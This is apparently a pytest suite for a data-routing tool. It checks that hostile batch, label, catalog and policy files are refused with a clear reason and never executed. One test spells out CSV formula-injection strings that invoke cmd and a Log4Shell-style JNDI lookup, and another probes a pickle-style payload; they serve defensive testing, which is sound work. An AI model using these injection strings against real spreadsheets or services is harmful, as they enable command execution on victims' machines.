"""Every hostile input is refused: a reason that names file, place and remedy; the file kept; nothing run."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from hostile_batches import BATCHES, RECORDS
from hostile_tables import BENCHES, CATALOGS, LABELS, OUTCOMES, POLICIES
from payload import Payload, mark

from routing_assets.batches import outcomes as batch_outcomes
from routing_assets.batches import receive as intake
from routing_assets.batches.inbox import take_in
from routing_assets.batches.policy import read_policy
from routing_assets.batches.receive import Admission
from routing_assets.datasets import load_batch, load_labels
from routing_assets.datasets.set_aside import records_set_aside
from routing_assets.foundation.errors import InvalidInput
from routing_assets.home import Home
from routing_assets.pricing.catalog import load_catalog
from routing_assets.pricing.units import refuse_doubtful_prices


def assert_kept_with_reason(home: Home, name: str, content: bytes, pattern: str) -> None:
    (reason,) = home.folders.rejected.glob("*.reason.txt")
    text = reason.read_text(encoding="utf-8")
    assert re.search(pattern, text, re.DOTALL), text
    assert name in text
    assert ".claimed" not in text
    assert len(text) < 2_000
    kept = reason.with_name(reason.name.removesuffix(".reason.txt"))
    assert kept.read_bytes() == content


def assert_says(caught: pytest.ExceptionInfo[InvalidInput], path: Path, pattern: str) -> None:
    assert re.search(pattern, str(caught.value), re.DOTALL), str(caught.value)
    assert path.name in str(caught.value)
    assert caught.value.remedy
    assert len(str(caught.value)) < 2_000


@pytest.mark.parametrize("fault", BATCHES)
@pytest.mark.usefixtures("refused")
def test_a_hostile_batch(home: Home, fault: str) -> None:
    name, content, pattern = BATCHES[fault]
    (home.folders.inbox / name).write_bytes(content)
    taken = take_in(home.warehouse, home.folders, take_in(home.warehouse, home.folders, {}).seen)
    assert taken.received == []
    assert_kept_with_reason(home, name, content, pattern)
    assert not list(home.folders.received.iterdir())
    assert not list(home.folders.claimed.iterdir())
    with home.warehouse.reader() as connection:
        assert connection.execute("select count(*) from batches").fetchone() == (0,)


@pytest.mark.parametrize("fault", RECORDS)
@pytest.mark.usefixtures("refused")
def test_a_hostile_record(home: Home, fault: str) -> None:
    name, content, pattern = RECORDS[fault]
    (home.folders.inbox / name).write_bytes(content)
    assert (
        take_in(
            home.warehouse,
            home.folders,
            take_in(home.warehouse, home.folders, {}).seen,
            admission=Admission(strict=True),
        ).received
        == []
    )
    assert_kept_with_reason(home, name, content, pattern)
    (home.folders.inbox / name).write_bytes(content)
    (received,) = take_in(home.warehouse, home.folders, take_in(home.warehouse, home.folders, {}).seen).received
    batch = load_batch(received.path)
    (line,) = records_set_aside(received.path, batch.set_aside)
    aside = json.loads(line)
    assert re.search(pattern, f"row {aside['row']}, {aside['reason']}", re.DOTALL), line
    assert len(batch) == len(content.splitlines()) - (2 if name.endswith(".csv") else 1)
    assert received.path.read_bytes() == content


@pytest.mark.parametrize("fault", OUTCOMES)
@pytest.mark.usefixtures("refused")
def test_hostile_outcomes(home: Home, fault: str, monkeypatch: pytest.MonkeyPatch) -> None:
    name, content, pattern = OUTCOMES[fault]
    monkeypatch.setattr(batch_outcomes, "decision_in_force", lambda *_: {})
    monkeypatch.setattr(batch_outcomes, "sent_by", lambda *_: None)  # the file is refused before the batch is looked at
    path = home.folders.outcomes / name
    path.write_bytes(content)
    with pytest.raises(InvalidInput) as caught:
        batch_outcomes.receive_outcomes(home.warehouse, home.store, home.folders, path, "weekly", move=True)
    assert_says(caught, path, pattern)
    intake.reject(home.folders, path, str(caught.value))
    assert_kept_with_reason(home, name, content, pattern)
    assert not list(home.folders.received.rglob("*.*"))


@pytest.mark.parametrize("fault", LABELS)
@pytest.mark.usefixtures("refused")
def test_hostile_labels(tmp_path: Path, fault: str) -> None:
    name, content, pattern = LABELS[fault]
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(InvalidInput) as caught:
        load_labels(path)
    assert_says(caught, path, pattern)
    assert path.read_bytes() == content


@pytest.mark.parametrize("fault", BENCHES)
@pytest.mark.usefixtures("refused")
def test_a_hostile_benchmark_folder(tmp_path: Path, fault: str) -> None:
    write, pattern = BENCHES[fault]
    with pytest.raises(InvalidInput) as caught:
        load_labels(write(tmp_path))
    assert re.search(pattern, str(caught.value), re.DOTALL), str(caught.value)
    assert str(tmp_path) in str(caught.value)


@pytest.mark.parametrize("fault", CATALOGS)
@pytest.mark.usefixtures("refused")
def test_a_hostile_catalog(tmp_path: Path, fault: str) -> None:
    text, pattern = CATALOGS[fault]
    path = tmp_path / "catalog.yaml"
    path.write_text(text)
    with pytest.raises(InvalidInput) as caught:
        refuse_doubtful_prices(load_catalog(path), None)
    assert_says(caught, path, pattern)


@pytest.mark.parametrize("fault", POLICIES)
@pytest.mark.usefixtures("refused")
def test_a_hostile_policy(tmp_path: Path, fault: str) -> None:
    text, pattern = POLICIES[fault]
    path = tmp_path / "policy.yaml"
    path.write_text(text)
    with pytest.raises(InvalidInput) as caught:
        read_policy(path)
    assert_says(caught, path, pattern)


@pytest.mark.parametrize("content", [b"models: {\xff: 1}", b"\x00", "models: {m: {price: 1}}".encode("utf-16")])
@pytest.mark.usefixtures("refused")
def test_yaml_in_another_encoding(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "catalog.yaml"
    path.write_bytes(content)
    with pytest.raises(InvalidInput, match=r"catalog\.yaml"):
        load_catalog(path)


def test_a_payload_would_have_been_noticed() -> None:
    call, arguments = Payload("itself").__reduce__()
    call(*arguments)  # type: ignore[operator]
    assert mark().read_text() == "itself\n"
    mark().unlink()


def test_formulas_in_cells_are_texts_like_any_other(tmp_path: Path) -> None:
    path = tmp_path / "b.csv"
    formulas = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x/")', "${jndi:ldap://x/}"]
    quoted = "".join('{},"{}"\n'.format(i, text.replace('"', '""')) for i, text in enumerate(formulas))
    path.write_text("instruction_id,instruction\n" + quoted)
    assert load_batch(path).instruction.tolist() == formulas


def test_there_are_at_least_sixty_hostile_inputs() -> None:
    kinds = (BATCHES, RECORDS, OUTCOMES, LABELS, BENCHES, CATALOGS, POLICIES)
    assert sum(len(kind) for kind in kinds) >= 60
